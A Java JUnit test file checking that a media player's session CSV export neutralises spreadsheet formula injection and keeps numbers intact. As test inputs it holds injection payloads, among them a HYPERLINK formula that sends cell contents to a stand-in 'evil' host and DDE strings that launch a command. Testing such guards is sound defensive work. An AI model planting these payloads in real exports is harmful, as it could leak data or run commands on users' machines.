package org.netstreamfx.app.session;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringWriter;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.netstreamfx.player.net.NetStatusCode;
import org.netstreamfx.player.net.NetStatusEvent;

/**
 * The CSV export against spreadsheet formula injection (OWASP "CSV Injection"): a server's
 * description or details that start like a formula reach the file as text, a number stays a number.
 */
class SessionExportTest {
    private static final long START = 1_000_000_000L;
    /** The empty stats columns that end every row but a stats sample's. */
    private static final String NO_STATS = ",".repeat(SessionExport.STATS_COLUMNS.size());

    /** The CSV of one Play.Failed event carrying {@code description} and {@code details}, split into lines. */
    private static List<String> csvOf(String description, Object details) throws Exception {
        SessionRecorder r = new SessionRecorder(START);
        long halfASecondIn = START + 500_000_000L;
        r.onNetStatus(NetStatusEvent.of(NetStatusCode.NETSTREAM_PLAY_FAILED, description, details, halfASecondIn));
        StringWriter out = new StringWriter();
        r.export().writeCsv(out, EntryFilter.all());
        return List.of(out.toString().split("\r\n"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"})
    void aDescriptionThatStartsLikeAFormulaIsWrittenAsTextWithAQuoteInFront(String description) throws Exception {
        String field = SessionExport.csvField(description);
        String unquoted = field.startsWith("\"") ? field.substring(1, field.length() - 1).replace("\"\"", "\"") : field;
        assertEquals("'" + description, unquoted);
        String row = csvOf(description, null).get(1);
        assertTrue(row.contains(",'" + description.charAt(0)) || row.contains(",\"'" + description.charAt(0)), row);
    }

    @Test
    void theWholeRowOfAnInjectedEventIsGuardedAndTheTimeStillANumber() throws Exception {
        List<String> csv = csvOf("=cmd|' /C calc'!A0", "@evil");
        assertEquals(SessionExport.CSV_HEADER, csv.get(0));
        // The details are JSON text: a string detail starts with its double quote, which no
        // spreadsheet runs, so it needs no guard.
        assertEquals("0.5,status,NetStream.Play.Failed,error,'=cmd|' /C calc'!A0,\"\"\"@evil\"\"\"" + NO_STATS, csv.get(1));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-3.0", "-0.25", "-1", "-1.5E-7", "0", "12.5", "-2e10"})
    void aNumberStaysANumberEvenWhenItIsNegative(String number) {
        assertEquals(number, SessionExport.csvField(number));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1+2", "-", "--1", "-1,5", "+1", "-.5", "-1e", "- 1"})
    void textThatOnlyLooksLikeANumberIsGuarded(String text) {
        assertTrue(SessionExport.formulaSafe(text).startsWith("'"), text);
    }

    @Test
    void aNegativeNumberAsDetailsIsExportedAsANumber() throws Exception {
        assertEquals("0.5,status,NetStream.Play.Failed,error,Not found.,-3.0" + NO_STATS, csvOf("Not found.", -3.0).get(1));
    }

    @Test
    void ordinaryTextAndJsonDetailsAreUnchanged() throws Exception {
        assertEquals("0.5,status,NetStream.Play.Failed,error,Stream not found: demo.,\"{\"\"code\"\":\"\"-x\"\"}\"" + NO_STATS,
                csvOf("Stream not found: demo.", Map.of("code", "-x")).get(1));
        assertEquals("a = b, c - d", SessionExport.formulaSafe("a = b, c - d"));
        assertEquals("", SessionExport.formulaSafe(""));
    }

    @Test
    void aSecretIsMaskedBeforeTheFieldIsGuardedSoTheGuardStays() throws Exception {
        SessionRecorder r = new SessionRecorder(START);
        r.addSecret("key9");
        r.onNetStatus(NetStatusEvent.of(NetStatusCode.NETSTREAM_PLAY_FAILED, "=key9", null, START));
        StringWriter out = new StringWriter();
        r.export().writeCsv(out, EntryFilter.all());
        String row = out.toString().split("\r\n")[1];
        assertFalse(row.contains("key9"), row);
        assertTrue(row.contains(",'="), row);
    }
}
